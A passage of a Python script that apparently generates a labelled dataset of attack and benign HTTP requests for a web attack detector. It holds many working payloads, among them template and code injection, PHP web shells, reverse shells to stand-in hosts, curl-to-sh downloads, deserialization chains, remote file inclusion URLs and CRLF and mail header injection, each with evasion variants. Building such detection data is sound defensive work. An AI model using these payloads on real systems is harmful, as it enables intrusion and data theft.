        S("cookie", '${@java.lang.Runtime@getRuntime().exec("id")}'),
        S("query", "{{settings.SECRET_KEY}}"),
        # ---- evasions
        S(
            "query",
            "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')|attr('popen')('id')|attr('read')()}}",
            True,
        ),
        S(
            "form",
            "{{''['\\x5f\\x5fclass\\x5f\\x5f']['\\x5f\\x5fmro\\x5f\\x5f'][1]['\\x5f\\x5fsubclasses\\x5f\\x5f']()}}",
            True,
        ),
        S("query", '{{request|attr(["_"*2,"class","_"*2]|join)}}', True),
        S("json", "{{7*7}}", True, jmode="u_all"),
        S(
            "query",
            "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read() }}",
            True,
            enc="full",
        ),
        S("query", "{%print(7*7)%}", True),
        S("json", "{{''|attr('\\u005f\\u005fclass\\u005f\\u005f')}}", True),
        S("query", "${7*7}", True, enc="double"),
        S("form", "{{ config [ 'SECRET' + '_KEY' ] }}", True),
        S("header", "#{''.getClass().forName('java.la'+'ng.Runtime').getRuntime().exec('id')}", True, hname="Referer"),
        S("query", "\uff5b\uff5b7*7\uff5d\uff5d", True),
    ]
    run("ssti", ctx, specs)


@gen
def gen_code_injection():
    ctx = {
        "query": [
            {"name": "expr", "path": "/api/calc"},
            {"name": "formula", "path": "/sheets/eval"},
            {"name": "filter", "path": "/api/v1/rules/test"},
            {"name": "cb", "path": "/widget.js"},
        ],
        "form": [
            {"name": "code", "path": "/admin/scripts/run"},
            {"name": "condition", "path": "/workflow/rules/save", "others": [("rule", "7")]},
        ],
        "json": [
            {"name": "expression", "path": "/api/pricing/evaluate", "extra": {"currency": "EUR"}},
            {"name": "script", "path": "/api/jobs", "extra": {"name": "nightly", "cron": "0 3 * * *"}},
            {"name": "transform", "path": "/api/etl/pipelines", "extra": {"source": "s3"}},
        ],
        "cookie": [{"name": "session", "cookies": []}, {"name": "prefs", "cookies": ["lang=en"]}],
        "header": [{"hname": "User-Agent"}, {"hname": "X-Expression"}],
        "multipart": [
            {
                "name": "config",
                "path": "/api/plugins/install",
                "mp_as_file": True,
                "filename": "config.yml",
                "fctype": "application/x-yaml",
            }
        ],
    }
    specs = [
        # Python
        S("query", "__import__('os').system('id')"),
        S("json", "eval(compile('import os;os.system(\"id\")','x','exec'))"),
        S(
            "form",
            "().__class__.__bases__[0].__subclasses__()[59].__init__.__globals__['sys'].modules['os'].popen('id').read()",
        ),
        S(
            "json",
            "exec(\"import socket,subprocess,os;s=socket.socket();s.connect(('203.0.113.9',4444));os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])\")",
        ),
        S("cookie", "Y29zCnN5c3RlbQooUydpZCcKdFIu", name="session"),
        S("multipart", '!!python/object/apply:os.system ["curl http://203.0.113.7/s | sh"]'),
        # Node.js
        S("query", "require('child_process').exec('id')"),
        S("json", "process.mainModule.require('child_process').execSync('cat /etc/passwd').toString()"),
        S(
            "query",
            "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')",
        ),
        S("form", "res.end(require('fs').readFileSync('/etc/passwd'))"),
        S(
            "cookie",
            "{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id',function(e,o){});}()\"}",
            name="profile",
        ),
        S("query", "');require('child_process').exec('id');('", name="cb"),
        S("json", "new Function('return process')().mainModule.require('child_process').execSync('id')"),
        # Ruby
        S("query", "eval(\"system('id')\")"),
        S("form", "Kernel.exec('id')"),
        S("json", "%x(id)"),
        S("query", "#{system('id')}"),
        S(
            "multipart",
            "--- !ruby/object:Gem::Installer\ni: x\n--- !ruby/object:Gem::SpecFetcher\ni: y\n--- !ruby/object:Gem::Requirement\nrequirements:\n  !ruby/object:Gem::Package::TarReader\n  io: &1 !ruby/object:Net::BufferedIO\n    io: &1 !ruby/object:Gem::Package::TarReader::Entry\n       read: 0\n       header: \"abc\"\n    debug_output: &1 !ruby/object:Net::WriteAdapter\n       socket: &1 !ruby/object:Gem::RequestSet\n           sets: !ruby/object:Net::WriteAdapter\n               socket: !ruby/module 'Kernel'\n               method_id: :system\n           git_set: id\n       method_id: :resolve\n",
        ),
        # Perl
        S("query", 'system("id")'),
        S("form", "qx{cat /etc/passwd}"),
        S("json", 'open(my $f,"|id");'),
        # Java / Groovy / OGNL / MVEL
        S("json", 'java.lang.Runtime.getRuntime().exec(new String[]{"sh","-c","id"})'),
        S("form", 'new ProcessBuilder("id").start()'),
        S("json", '"id".execute().text'),
        S("json", '@groovy.transform.ASTTest(value={assert java.lang.Runtime.getRuntime().exec("id")})def x'),
        S(
            "header",
            "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container']).(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class)).(#ognlUtil.getExcludedPackageNames().clear()).(#ognlUtil.getExcludedClasses().clear()).(#context.setMemberAccess(#dm)))).(#cmd='id').(#p=new java.lang.ProcessBuilder({'/bin/sh','-c',#cmd})).(#p.start())}",
            hname="Content-Type",
        ),
        S("query", "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}"),
        S("form", "@{java.lang.Runtime.getRuntime().exec('id')}"),
        S(
            "cookie",
            "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAAAAABc3IADGphdmEubmV0LlVSTJYlNzYa/ORyAwAHSQAIaGFzaENvZGVJAARwb3J0TAAJYXV0aG9yaXR5dAASTGphdmEvbGFuZy9TdHJpbmc7",
            name="rememberMe",
        ),
        # PHP-style eval contexts
        S("query", "\";system('id');//"),
        S("json", "1;phpinfo()"),
        # ---- evasions
        S("query", "__import__('o'+'s').system('i'+'d')", True),
        S("json", "getattr(__import__('os'),'sys'+'tem')('id')", True),
        S("query", "eval(bytes.fromhex('5f5f696d706f72745f5f28276f7327292e73797374656d282769642729').decode())", True),
        S(
            "form",
            "eval(String.fromCharCode(114,101,113,117,105,114,101,40,39,99,104,105,108,100,95,112,114,111,99,101,115,115,39,41,46,101,120,101,99,40,39,105,100,39,41))",
            True,
        ),
        S("query", "require('child_'+'process')['ex'+'ec']('id')", True, enc="full"),
        S("json", "process['mainModule']['require']('child_process')['execSync']('id')", True, jmode="u_some"),
        S("query", "eval(Buffer.from('cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWMoImlkIik=','base64').toString())", True),
        S("form", 'eval(pack("H*","73797374656d282769642729"))', True),
        S("json", "Kernel.send(:sys\x74em, 'i'+'d')", True),
        S("query", '"\\x5f\\x5fimport\\x5f\\x5f"', True, name="expr"),
        S("header", 'T(java.lang.Runtime).getRuntime().exec("id")', True, hname="X-Expression"),
        S(
            "json",
            "this['constructor']['constructor']('return this')()['process']['mainModule']['require']('child_process')['execSync']('id')",
            True,
        ),
        S("query", "__import__('os').system('id')", True, enc="double"),
    ]
    run("code_injection", ctx, specs)


@gen
def gen_php_injection():
    ctx = {
        "query": [
            {"name": "page", "path": "/index.php"},
            {"name": "file", "path": "/view.php"},
            {"name": "cmd", "path": "/wp-content/plugins/gallery/ajax.php"},
            {"name": "lang", "path": "/main.php", "others": [("id", "4")]},
        ],
        "form": [
            {"name": "content", "path": "/admin/theme-editor.php", "others": [("file", "footer.php")]},
            {"name": "data", "path": "/api/save.php"},
        ],
        "json": [
            {"name": "settings", "path": "/api/plugin/config"},
            {"name": "value", "path": "/api/cache/set", "extra": {"key": "home"}},
        ],
        "cookie": [{"name": "PHPSESSID", "cookies": []}, {"name": "cart", "cookies": ["PHPSESSID=9d1c0a7e5b"]}],
        "header": [{"hname": "User-Agent"}, {"hname": "Referer"}],
        "multipart": [
            {
                "name": "upload",
                "path": "/upload.php",
                "mp_as_file": True,
                "filename": "avatar.php.jpg",
                "fctype": "image/jpeg",
            },
            {
                "name": "file",
                "path": "/wp-admin/async-upload.php",
                "mp_as_file": True,
                "filename": "shell.phtml",
                "fctype": "application/octet-stream",
            },
        ],
    }
    specs = [
        S("query", "<?php system($_GET['cmd']); ?>"),
        S("form", "<?= `$_GET[0]` ?>"),
        S("form", "<?php eval(base64_decode('c3lzdGVtKCdpZCcpOw==')); ?>"),
        S("query", "phpinfo();"),
        S("query", "1;system('id');"),
        S("query", "{${system('id')}}"),
        S("json", "\".passthru('id').\""),
        S("json", "'.shell_exec('cat /etc/passwd').'"),
        S("form", "assert($_POST['x'])"),
        S("query", "preg_replace('/.*/e','system(\"id\")','a')"),
        S("json", "create_function('', 'system(\"id\");')"),
        S("query", "call_user_func('system','id')"),
        S("form", "array_map('system',array('id'))"),
        S("json", "file_put_contents('s.php','<?php system($_GET[c]);?>')"),
        S("query", "php://filter/convert.base64-encode/resource=index.php"),
        S("query", "php://filter/read=string.rot13/resource=config.php"),
        S("query", "data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOyA/Pg=="),
        S("query", "expect://id"),
        S("query", "phar://uploads/avatar.jpg/test.txt"),
        S("query", "zip://uploads/archive.zip#shell.php"),
        S(
            "query",
            "php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-encode|convert.iconv.UTF8.UTF7|convert.base64-decode/resource=php://temp",
        ),
        S("cookie", 'O:8:"Example1":1:{s:10:"cache_file";s:15:"../../index.php";}', name="cart"),
        S(
            "cookie",
            'a:1:{i:0;O:40:"Illuminate\\Broadcasting\\PendingBroadcast":1:{s:9:"\x00*\x00events";O:15:"Faker\\Generator":1:{s:13:"\x00*\x00formatters";a:1:{s:8:"dispatch";s:6:"system";}}}}',
        ),
        S("json", 'O:21:"GuzzleHttp\\Psr7\\FnStream":1:{s:9:"_fn_close";s:7:"phpinfo";}'),
        S("header", "<?php system($_GET['c']); ?>", hname="User-Agent"),
        S("multipart", "GIF89a;\n<?php system($_GET['c']); ?>", name="upload"),
        S("multipart", '<?php\n$s=fsockopen("203.0.113.9",4444);\nexec("/bin/sh -i <&3 >&3 2>&3");\n?>', name="file"),
        # ---- evasions
        S("query", "<?PhP SyStEm('id'); ?>", True),
        S("form", "<?php $a='sys'.'tem'; $a('id'); ?>", True),
        S("json", '<?php ("sys"."tem")("id"); ?>', True),
        S("query", '<?php echo ${"_GE"."T"}[1]; ?>', True),
        S("form", "<?php $f=chr(115).chr(121).chr(115).chr(116).chr(101).chr(109);$f('id'); ?>", True),
        S("query", "<script language=\"php\">system('id');</script>", True),
        S("form", '<?php\tsystem("id");', True),
        S("json", "str_rot13('flfgrz')('vq')", True),
        S("query", '"\\x73\\x79\\x73\\x74\\x65\\x6d"("id")', True),
        S("query", "<?php system('id'); ?>", True, enc="full"),
        S("json", "<?php passthru($_REQUEST['c']); ?>", True, jmode="u_some"),
        S("query", "pHp://FilTer/convert.base64-encode/resource=../config.php", True),
        S("header", "<?=`{$_GET[x]}`?>", True, hname="Referer"),
        S("query", "php://filter/convert.base64-encode/resource=index.php", True, enc="double"),
    ]
    run("php_injection", ctx, specs)
    h = base_headers("client")
    h["Content-Type"] = "application/x-www-form-urlencoded"
    add(
        "attack",
        "php_injection",
        "POST",
        "/index.php",
        "page=php://input",
        h,
        "<?php system('id'); ?>",
        "query",
        "php://input",
        False,
    )


@gen
def gen_rfi():
    ctx = {
        "query": [
            {"name": "page", "path": "/index.php"},
            {"name": "include", "path": "/modules/loader.php"},
            {"name": "template", "path": "/render.php"},
            {"name": "file", "path": "/show.php"},
            {"name": "lang", "path": "/index.php", "others": [("module", "news")]},
        ],
        "form": [{"name": "skin", "path": "/admin/config.php"}, {"name": "module_path", "path": "/install/step2.php"}],
        "json": [{"name": "templateUrl", "path": "/api/themes/install"}, {"name": "include", "path": "/api/render"}],
        "cookie": [{"name": "lang", "cookies": ["PHPSESSID=2c1f0a9b88"]}, {"name": "theme", "cookies": []}],
        "header": [{"hname": "X-Template-Path"}],
        "multipart": [{"name": "plugin_url", "path": "/admin/plugins/upload"}],
    }
    specs = [
        S("query", "http://attacker.example/shell.txt"),
        S("query", "http://203.0.113.50/c99.txt?"),
        S("query", "https://evil.attacker.example/payload.php\x00"),
        S("query", "//attacker.example/shell.txt"),
        S("query", "\\\\attacker.example\\share\\shell.php"),
        S("form", "ftp://anonymous:anon@203.0.113.50/pub/shell.php"),
        S("query", "http://attacker.example/shell.txt#"),
        S("query", "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+"),
        S("json", "data:text/plain,<?php system('id');?>"),
        S("query", "https://pastebin.com/raw/Xy12AbCd?"),
        S("query", "http://attacker.example:8000/r57.txt??"),
        S("form", "http://attacker.example/shell.jpg?.php"),
        S("json", "https://attacker.example/templates/evil.vm"),
        S("cookie", "http://attacker.example/lang/en.txt?"),
        S("query", "http://attacker.example/inc/config.inc.txt?.inc"),
        S("header", "http://attacker.example/tpl/header.tpl", hname="X-Template-Path"),
        S("multipart", "https://attacker.example/plugins/backdoor.zip"),
        S("query", "http://attacker.example/shell.txt?&cmd=id"),
        S("json", "\\\\203.0.113.50\\pub\\x.php"),
        S("query", "https://attacker.example/x.txt?/../../index"),
        S("form", "https://raw.attacker.example/webshell/master/wso.php?"),
        S("query", "http://203.0.113.50/evil.jsp?x="),
        # ---- evasions
        S("query", "hTtP://attacker.example/shell.txt?", True),
        S("query", "http://attacker.example/shell.txt", True, enc="mixed"),
        S("query", "http://attacker.example/shell.txt", True, enc="full"),
        S("query", "http://attacker.example/shell.txt?", True, enc="double"),
        S("form", "http:\\\\attacker.example\\shell.txt", True),
        S("query", "HTTP://ATTACKER.EXAMPLE/SHELL.TXT?", True),
        S("json", "http://attacker.example/shell.txt", True, jmode="u_some"),
        S("query", "http://0xcb.0.113.50/sh.txt?", True),
        S("query", "http://attacker\u3002example/shell.txt", True),
        S("cookie", "//attacker.example/s.txt\x00", True, enc="mixed"),
        S("query", "ht\ttp://attacker.example/shell.txt", True, enc="strict"),
        S("json", "http://" + ip_dec(203, 0, 113, 50) + "/shell.txt?", True),
        S("cookie", "HtTpS://attacker.example/webshell.php.txt?", True, enc="mixed"),
    ]
    run("rfi", ctx, specs)


@gen
def gen_prototype_pollution():
    ctx = {
        "json": [
            {"path": "/api/users/me", "obj": {"displayName": "bob", "settings": MARK}},
            {"path": "/api/v1/cart/merge", "obj": {"items": [{"sku": "A1", "qty": 1}], "meta": MARK}},
            {"path": "/api/profile", "obj": MARK},
        ],
        "json_key": [
            {"path": "/api/config/set", "obj": {MARKK: True}},
            {"path": "/api/v2/objects/patch", "obj": {"id": 7, "changes": {MARKK: "admin"}}},
        ],
        "query_key": [
            {"path": "/api/search", "others": [("q", "shoes")]},
            {"path": "/", "others": []},
            {"path": "/account", "others": [("tab", "billing")]},
        ],
        "form": [{"path": "/profile/update", "others": [("name", "Bob")], "formkv": True}],
        "cookie": [{"name": "prefs", "cookies": ["sid=abc123"]}],
        "multipart": [{"name": "metadata", "path": "/api/files"}],
        "header": [{"hname": "X-User-Prefs"}],
    }
    specs = [
        S("json", '{"__proto__":{"isAdmin":true}}', raw=True),
        S("json", '{"constructor":{"prototype":{"isAdmin":true}}}', raw=True),
        S("json", '{"__proto__":{"role":"admin"}}', raw=True),
        S(
            "json",
            '{"__proto__":{"outputFunctionName":"x;process.mainModule.require(\'child_process\').execSync(\'id\');s"}}',
            raw=True,
        ),
        S(
            "json",
            '{"__proto__":{"shell":"/proc/self/exe","argv0":"console.log(require(\'child_process\').execSync(\'id\').toString())//","NODE_OPTIONS":"--require /proc/self/cmdline"}}',
            raw=True,
        ),
        S(
            "json",
            '{"__proto__":{"sourceURL":"\\nglobal.process.mainModule.require(\'child_process\').execSync(\'id\')"}}',
            raw=True,
        ),
        S("json", '{"__proto__":{"polluted":"yes"}}', raw=True),
        S("json", '{"__proto__":{"status":510}}', raw=True),
        S("json", '{"__proto__":{"json spaces":10}}', raw=True),
        S("json", '{"__proto__":{"exposedHeaders":["X-Polluted"]}}', raw=True),
        S(
            "json",
            '{"__proto__":{"escapeFunction":"JSON.stringify; process.mainModule.require(\'child_process\').exec(\'id\')","client":true}}',
            raw=True,
        ),
        S("json", '{"name":"x","__proto__":{"allowedTags":["script","img"]}}', raw=True, obj=MARK, path="/api/posts"),
        S("json", '{"constructor":{"prototype":{"env":{"NODE_DEBUG":"x"}}}}', raw=True),
        S("json", '{"a":{"__proto__":{"__proto__":{"admin":1}}}}', raw=True),
        S("json", "__proto__.isAdmin", path="/api/objects/set", obj={"path": MARK, "value": True}),
        S("json", "constructor.prototype.role", path="/api/objects/set", obj={"path": MARK, "value": "admin"}),
        S("json_key", "__proto__.isAdmin"),
        S("json_key", "constructor.prototype.isAdmin"),
        S("query_key", "__proto__[isAdmin]=true", enc="raw"),
        S("query_key", "__proto__.isAdmin=true", enc="raw"),
        S("query_key", "constructor[prototype][isAdmin]=true", enc="raw"),
        S("query_key", "a[__proto__][b]=polluted", enc="raw"),
        S("query_key", "__proto__[innerHTML]=<img/src/onerror=alert(1)>"),
        S("query_key", "__proto__[status]=555", enc="raw"),
        S("form", "__proto__[admin]=1"),
        S("form", "user[constructor][prototype][role]=admin"),
        S("cookie", '{"theme":"dark","__proto__":{"isAdmin":true}}'),
        S("multipart", '{"title":"report","__proto__":{"uploadDir":"/var/www/html"}}'),
        S("header", '{"__proto__":{"debug":true}}', hname="X-User-Prefs"),
        # ---- evasions
        S(
            "json",
            '{"__proto__":{"isAdmin":true}}',
            True,
            raw=True,
            rawwire='{"\\u005f\\u005fproto\\u005f\\u005f":{"isAdmin":true}}',
        ),
        S(
            "json",
            '{"constructor":{"prototype":{"role":"admin"}}}',
            True,
            raw=True,
            rawwire='{"\\u0063onstructor":{"prot\\u006ftype":{"role":"admin"}}}',
        ),
        S("query_key", "__pro__proto__to__[isAdmin]=true", True, enc="raw"),
        S("query_key", "__proto__[isAdmin]=true", True, enc="strict"),
        S("query_key", "constructor[prototype][admin]=1", True, enc="mixed"),
        S("form", "__proto__[role]=admin", True, enc="full"),
        S("query_key", "__proto__[x]=y", True, enc="double"),
        S("json_key", "__proto__", True, obj={"user": {MARKK: {"isAdmin": True}}}, jmode="u_some"),
        S(
            "json",
            '{"__proto__":{"isAdmin":true},"__proto__":{"isAdmin":true}}',
            True,
            raw=True,
            rawwire='{"__proto__":{"isAdmin":true},"\\u005F_proto__":{"isAdmin":true}}',
        ),
    ]
    run("prototype_pollution", ctx, specs)


@gen
def gen_mail_injection():
    ctx = {
        "form": [
            {"name": "email", "path": "/contact", "others": [("name", "Alex"), ("message", "Hello there")]},
            {"name": "from", "path": "/feedback/send", "others": [("body", "Great product")]},
            {"name": "subject", "path": "/contact", "others": [("email", "alex@example.com")]},
            {"name": "to", "path": "/share/email", "others": [("url", "https://shop.example.com/p/12")]},
        ],
        "json": [
            {"name": "email", "path": "/api/newsletter/subscribe"},
            {
                "name": "replyTo",
                "path": "/api/support/tickets",
                "extra": {"subject": "Order issue", "body": "Late delivery"},
            },
            {"name": "recipient", "path": "/api/invites"},
        ],
        "query": [{"name": "email", "path": "/unsubscribe"}, {"name": "to", "path": "/api/mail/test"}],
        "multipart": [{"name": "sender", "path": "/careers/apply", "others": [("position", "Engineer")]}],
        "header": [{"hname": "X-Reply-To"}],
        "cookie": [{"name": "remember_email", "cookies": []}],
    }
    specs = [
        S("form", "victim@example.com\r\nBcc: list1@spam.example,list2@spam.example"),
        S("form", "attacker@evil.example\nCc: everyone@spam.example"),
        S("form", "Question\r\nBcc: a@spam.example", name="subject"),
        S("json", "user@example.com\nTo: other@spam.example"),
        S(
            "form",
            "foo@example.com\r\nContent-Type: text/html\r\n\r\n<h1>Cheap pills</h1><a href=http://spam.example>buy</a>",
        ),
        S("json", "user@example.com>\r\nRCPT TO:<victim@spam.example>\r\nDATA\r\nSubject: hi\r\n\r\nspam\r\n.\r\nQUIT"),
        S("form", "test@example.com\r\n.\r\nMAIL FROM:<x@evil.example>\r\nRCPT TO:<y@victim.example>"),
        S("query", "a@example.com\nBcc:x@spam.example", True, enc="double"),
        S("form", "attacker@evil.example -OQueueDirectory=/tmp -X/var/www/html/rce.php", name="from"),
        S("form", '"attacker\\" -oQ/tmp/ -X/var/www/html/shell.php some"@email.com', name="from"),
        S("json", "me@example.com\r\nReply-To: phish@evil.example"),
        S("multipart", "jobs@example.com\r\nBcc: harvest@spam.example"),
        S("json", "support@example.com\r\nX-Mailer: bulk\r\nBcc: 1@spam.example"),
        S("form", "Invoice\r\nTo: ceo@victim.example\r\nSubject: Urgent wire transfer", name="subject"),
        S("query", "x@example.com\r\nBcc: y@spam.example"),
        S("header", "ops@example.com%0d%0aBcc:%20dump@spam.example", hname="X-Reply-To"),
        S("cookie", "a@example.com\r\nCc: b@spam.example"),
        S("json", 'INBOX"\r\nA002 LIST "" "*"'),
        S(
            "form",
            'user@example.com\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="b1"\r\n\r\n--b1\r\nContent-Type: text/plain\r\n\r\nspam\r\n--b1--',
        ),
        S("json", "a@b.example>\r\nRSET\r\nMAIL FROM:<ceo@victim.example>"),
        S("form", "friend@example.com,\r\nBcc: x@spam.example", name="to"),
        S("multipart", "a@example.com\nSubject: overwritten\nBcc: z@spam.example"),
        # ---- evasions
        S("form", "victim@example.com\r\n\tBcc: folded@spam.example", True),
        S("form", "victim@example.com\r\nbCc: mixed@spam.example", True, enc="mixed"),
        S("json", "v@example.com\r\nBcc: esc@spam.example", True, jmode="u_some"),
        S("form", "v@example.com\u2028Bcc: ls@spam.example", True),
        S("query", "v@example.com\r\nCc: full@spam.example", True, enc="full"),
        S("form", "v@example.com\r\nBcc:dbl@spam.example", True, enc="double"),
        S("json", "=?UTF-8?Q?x=0D=0ABcc:=20q@spam.example?= <v@example.com>", True),
        S("form", "v@example.com\rBcc: cr@spam.example", True),
        S("query", "v@example.com\x85Bcc: nel@spam.example", True, enc="strict"),
        S("json", "v@example.com\r\n Bcc : spaced@spam.example", True),
        S("form", '"v\\"\\r\\nBcc:x@spam.example"@example.com', True),
        S("multipart", "v@example.com\r\nRCPT\tTO:<tab@spam.example>", True),
    ]
    run("mail_injection", ctx, specs)


@gen
def gen_crlf():
    ctx = {
        "query": [
            {"name": "next", "path": "/login"},
            {"name": "redirect", "path": "/auth/callback"},
            {"name": "lang", "path": "/set-language"},
            {"name": "url", "path": "/out"},
            {"name": "filename", "path": "/api/export/download", "others": [("fmt", "csv")]},
        ],
        "path": [{"path": "/redirect/{}"}, {"path": "/{}"}, {"path": "/r/{}"}],
        "header": [
            {"hname": "X-Forwarded-For"},
            {"hname": "X-Request-Id"},
            {"hname": "Referer"},
            {"hname": "X-Client-Version"},
        ],
        "cookie": [{"name": "lang", "cookies": ["sid=7acd90e1"]}, {"name": "return_to", "cookies": []}],
        "form": [
            {"name": "username", "path": "/login", "others": [("password", "x")]},
            {"name": "redirect_uri", "path": "/oauth/authorize/confirm"},
        ],
        "json": [
            {"name": "redirect", "path": "/api/session/logout"},
            {"name": "note", "path": "/api/audit/log", "extra": {"level": "info"}},
        ],
        "multipart": [{"name": "filename", "path": "/api/files"}],
    }
    specs = [
        S("query", "/home\r\nSet-Cookie: session=attacker-fixed"),
        S("path", "\r\nLocation: http://evil.attacker.example", enc="strict"),
        S(
            "query",
            "en\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>",
        ),
        S("query", "/dashboard\nX-Injected: 1"),
        S("query", "/x\r\nAccess-Control-Allow-Origin: *\r\nAccess-Control-Allow-Credentials: true"),
        S("path", "\r\nX-XSS-Protection: 0\r\n\r\n<svg onload=alert(1)>", enc="strict"),
        S("query", "report.csv\r\nContent-Disposition: attachment; filename=evil.html"),
        S("query", "/\r\nLocation: javascript:alert(1)"),
        S("form", "admin\r\n[2026-12-04 10:00:00] INFO User admin logged in successfully from 10.0.0.1"),
        S("json", "/bye\r\nLocation: https://evil.attacker.example/phish"),
        S("json", 'done\n2026-12-04T10:00:00Z level=info msg="password reset for admin approved"'),
        S("header", "1.2.3.4%0d%0aX-Admin: true", hname="X-Forwarded-For"),
        S("header", "abc123%0d%0aSet-Cookie:%20sid=evil", hname="X-Request-Id"),
        S("cookie", "en\r\nSet-Cookie: admin=1"),
        S("cookie", "/account\r\nRefresh: 0; url=https://evil.attacker.example/"),
        S("form", "https://app.example.com/cb\r\nX-Frame-Options: ALLOWALL", name="redirect_uri"),
        S("multipart", "a.txt\r\nContent-Type: text/html"),
        S("query", "/\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /admin HTTP/1.1\r\nHost: localhost"),
        S("path", "en\r\nSet-Cookie: lang=../../etc", enc="strict"),
        S("query", "\r\nSet-Cookie:x=y", enc="strict", name="lang"),
        S("header", "https://www.example.com/%0d%0aX-Forwarded-Host: evil.attacker.example", hname="Referer"),
        S("query", "/\r\nContent-Security-Policy: script-src *"),
        # ---- evasions
        S("query", "/home\u560a\u560dSet-Cookie: pwned=1", True),
        S("query", "/home\u2028Set-Cookie: ls=1", True),
        S("query", "/home\u0085Location: //evil.attacker.example", True, enc="strict"),
        S("query", "/home\r\nSet-Cookie: dbl=1", True, enc="double"),
        S("path", "\r\n\tSet-Cookie: folded=1", True, enc="mixed"),
        S("query", "/home\rSet-Cookie: cr=1", True),
        S("query", "/home\r\nSet-Cookie: full=1", True, enc="full"),
        S("path", "%u000d%u000aSet-Cookie:iis=1", True, enc="literal"),
        S("json", "/home\r\nSet-Cookie: esc=1", True, jmode="u_some"),
        S("header", "v1.0%E5%98%8A%E5%98%8DSet-Cookie:%20x=1", True, hname="X-Client-Version"),
        S("query", "/home\r\n set-cookie : spaced=1", True, enc="mixed"),
        S("cookie", "en\u2029Set-Cookie: ps=1", True),
        S("query", "/#\r\nLocation: //evil.attacker.example", False, enc="strict"),
        S("form", "bob\r\n\r\n<html><body>fake login</body></html>", True, enc="mixed"),
    ]
    run("crlf", ctx, specs)


# ---------------------------------------------------------------- benign
FIRST = [
    "Liam",
    "Olivia",
    "Noah",
    "Emma",
    "Sofia",
    "Mateo",
    "Aiko",
    "Chen",
    "Fatima",
    "Lukas",
    "Zoë",
    "José",
    "Siobhan",
    "Priya",
    "Oluwaseun",
    "Anna",
    "Mehmet",
    "Ingrid",
    "Dmitri",
    "Camille",
]
LAST = [
    "O'Brien",
    "Smith",
    "García",
    "Müller",
    "Nguyen",
    "D'Angelo",
    "Kowalski",
    "Tanaka",
    "Okafor",
    "Johansson",
    "Núñez",
    "MacDonald",
    "Van der Berg",
    "Dubois",
    "Rossi",
    "Patel",
    "O'Connor",
    "Silva",
]
CITIES = [
    ("Dublin", "D02 X285", "IE"),
    ("Berlin", "10115", "DE"),
    ("Austin", "78701", "US"),
    ("Lyon", "69002", "FR"),
    ("Osaka", "530-0001", "JP"),
    ("Toronto", "M5V 2T6", "CA"),
    ("Madrid", "28013", "ES"),
    ("Leeds", "LS1 4AP", "GB"),
]
STREETS = [
    "12 Rue de l'Église",
    "221B Baker Street",
    "Flat 3/B, 14 King's Road",
    "Calle de Alcalá 48, 2º izq.",
    "1600 Amphitheatre Pkwy",
    "Hauptstraße 5 / Hinterhaus",
    "4-2-8 Shibakoen, Minato-ku",
    "Unit #7 - 350 Main St.",
]


def person():
    return pick(FIRST), pick(LAST)


def email_for(f, l):
    base = (f + "." + l).lower().replace("'", "").replace(" ", "")
    base = base.encode("ascii", "ignore").decode() or "user"
    return base + "@" + pick(["example.com", "example.org", "mail.example.net"])


@gen
def gen_benign_api_json():
    cat = "benign_api_json"
    for i in range(76):
        f, l = person()
        kind = i % 8
        hard = False
        if kind == 0:
            city, zipc, cc = pick(CITIES)
            doc = {
                "customerId": "cus_" + rand_token(14),
                "currency": pick(["EUR", "USD", "GBP"]),
                "items": [
                    {
                        "sku": "SKU-%05d" % R.randrange(99999),
                        "qty": R.randrange(1, 5),
                        "unitPrice": round(R.uniform(2, 300), 2),
                    }
                    for _ in range(R.randrange(1, 4))
                ],
                "shipping": {
                    "name": f + " " + l,
                    "line1": pick(STREETS),
                    "city": city,
                    "postcode": zipc,
                    "country": cc,
                },
                "notes": pick(["", "Leave at the door", "Please ring twice", "Gift wrap, no invoice in the box"]),
            }
            path = "/api/v1/orders"
        elif kind == 1:
            doc = {
                "firstName": f,
                "lastName": l,
                "email": email_for(f, l),
                "preferences": {
                    "newsletter": R.random() < 0.5,
                    "theme": pick(["dark", "light", "system"]),
                    "language": pick(["en", "de", "fr", "ja"]),
                },
                "timezone": pick(["Europe/Dublin", "America/Chicago", "Asia/Tokyo"]),
            }
            path = "/api/v1/users/me"
        elif kind == 2:
            doc = {
                "events": [
                    {
                        "type": pick(["page_view", "add_to_cart", "checkout_started"]),
                        "ts": 1733300000000 + R.randrange(10**7),
                        "props": {"path": pick(["/", "/products/42", "/cart"]), "referrer": "https://www.example.org/"},
                    }
                    for _ in range(R.randrange(1, 4))
                ],
                "anonymousId": rand_hex(8) + "-" + rand_hex(4) + "-" + rand_hex(4),
            }
            path = "/v1/batch"
        elif kind == 3:
            doc = {
                "filters": {
                    "price": {"min": R.randrange(5, 50), "max": R.randrange(60, 500)},
                    "brand": pick([["Acme"], ["Globex", "Initech"]]),
                    "inStock": True,
                },
                "sort": pick(["price_asc", "rating_desc", "newest"]),
                "page": R.randrange(1, 9),
                "pageSize": 24,
            }
            path = "/api/catalog/search"
        elif kind == 4:
            hard = True
            doc = {
                "select": ["id", "name", "email", "createdAt"],
